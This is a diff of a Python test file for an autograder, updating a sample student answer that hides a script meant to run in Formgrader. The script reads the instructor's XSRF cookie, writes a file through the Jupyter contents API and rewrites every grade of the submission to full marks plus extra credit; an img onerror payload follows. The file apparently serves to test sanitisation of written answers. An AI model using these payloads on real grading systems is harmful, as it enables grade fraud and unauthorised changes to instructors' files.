@@ -9,24 +9,29 @@ from html.parser import HTMLParser
 from autograder import submissions
 from tests import tiny_assignment as tiny
 
-# A written answer whose script, run in Formgrader, would set a marker, write a file through the
-# Jupyter contents API and give every grade of the page full marks through Formgrader's API.
+# A written answer whose script, run in Formgrader, sets a marker, writes a file through the Jupyter
+# contents API and gives itself full marks plus 100 extra credit through Formgrader's own API, with
+# the XSRF cookie of the instructor's page (submission_id is a global of Formgrader's page).
 SCRIPT_ANSWER = """Addition is commutative because a + b counts the same things as b + a.
 
 <script>
 window.__autograder_pwned = 'script in a written answer ran';
-document.title = 'PWNED';
-(function () {
-  const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
-  const h = {'Content-Type': 'application/json', 'X-XSRFToken': decodeURIComponent(xsrf)};
-  fetch('/api/contents/pwned.txt', {method: 'PUT', headers: h, credentials: 'same-origin',
+(async function () {
+  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '');
+  const h = {'Content-Type': 'application/json', 'X-XSRFToken': xsrf, 'X-CSRFToken': xsrf};
+  const sid = window.submission_id;
+  await fetch('/api/contents/pwned-' + sid + '.txt', {method: 'PUT', headers: h, credentials: 'same-origin',
         body: JSON.stringify({type: 'file', format: 'text', content: 'owned'})});
-  document.querySelectorAll('[data-id], .score, input').forEach(function (e) {
-    const id = e.getAttribute('data-id') || e.id;
-    if (id) fetch('/formgrader/api/grade/' + id, {method: 'PUT', headers: h, credentials: 'same-origin',
-                  body: JSON.stringify({manual_score: 1, extra_credit: 100})});
-  });
-})();
+  const res = await fetch('/formgrader/api/grades?submission_id=' + sid, {headers: h, credentials: 'same-origin'});
+  if (!res.ok || res.redirected) throw new Error('grades: ' + res.status + ' ' + res.url);
+  const grades = await res.json();
+  const codes = [];
+  for (const g of grades) {
+    codes.push((await fetch('/formgrader/api/grade/' + g.id, {method: 'PUT', headers: h, credentials: 'same-origin',
+                body: JSON.stringify({manual_score: g.max_score, extra_credit: 100})})).status);
+  }
+  window.__autograder_done = 'grades rewritten: ' + codes.join(' ');
+})().catch(function (e) { window.__autograder_done = 'failed: ' + e; });
 </script>
 
 <img src="x" onerror="window.__autograder_pwned = 'img onerror in a written answer ran'">
